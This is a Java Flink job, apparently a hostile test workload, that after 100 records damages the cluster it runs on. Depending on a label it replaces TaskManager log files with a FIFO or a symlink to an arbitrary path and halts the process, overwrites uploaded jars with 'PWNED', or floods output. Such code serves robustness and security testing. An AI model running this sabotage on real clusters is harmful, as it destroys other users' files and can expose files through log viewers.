package jobs;

import java.io.RandomAccessFile;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.Path;
import org.apache.flink.streaming.api.environment.StreamExecutionEnvironment;

/**
 * Damages files that it may write, by its property "label": "fifo" and "link:PATH" replace the log and output of its TaskManager by a
 * FIFO or a link and end the process; "jar" overwrites its own jar and continues; "prints:N" prints N megabytes.
 */
public final class Spoils {
    public static void main(String[] arguments) throws Exception {
        String label = Counting.label();
        StreamExecutionEnvironment env = StreamExecutionEnvironment.getExecutionEnvironment();
        env.fromSequence(0, Long.MAX_VALUE - 1).uid("numbers").map(number -> turn(number, label)).uid("turn").print();
        env.execute("spoils");
    }

    static String turn(long number, String label) throws Exception {
        Thread.sleep(10);
        if (number == 100) {
            spoil(label);
        }
        return label.split(":")[0] + " count=" + number + " at=" + System.currentTimeMillis();
    }

    private static void spoil(String label) throws Exception {
        Path logs = Path.of(System.getProperty("log.file")).getParent();
        if (label.equals("jar")) {
            overwrite(logs.resolveSibling("jars").resolve("flink-web-upload"));
        } else if (label.startsWith("prints:")) {
            print(Integer.parseInt(label.substring(7)));
        } else {
            for (String name : new String[] {"taskmanager-1.out", "taskmanager-1.log"}) {
                Files.delete(logs.resolve(name));
                if (label.equals("fifo")) {
                    new ProcessBuilder("mkfifo", logs.resolve(name).toString()).start().waitFor();
                } else {
                    Files.createSymbolicLink(logs.resolve(name), Path.of(label.substring(5)));
                }
            }
            Runtime.getRuntime().halt(7);
        }
    }

    private static void overwrite(Path directory) throws Exception {
        try (DirectoryStream<Path> jars = Files.newDirectoryStream(directory, "*.jar")) {
            for (Path jar : jars) {
                try (RandomAccessFile file = new RandomAccessFile(jar.toFile(), "rw")) {
                    file.write("PWNED".getBytes());
                    file.setLength(100);
                }
                System.out.println("overwrote a jar");
            }
        }
    }

    private static void print(int megabytes) {
        String line = "x".repeat(1023);
        for (int count = 0; count < megabytes * 1024; count++) {
            System.out.println(line);
        }
        System.out.println("printed " + megabytes);
    }
}
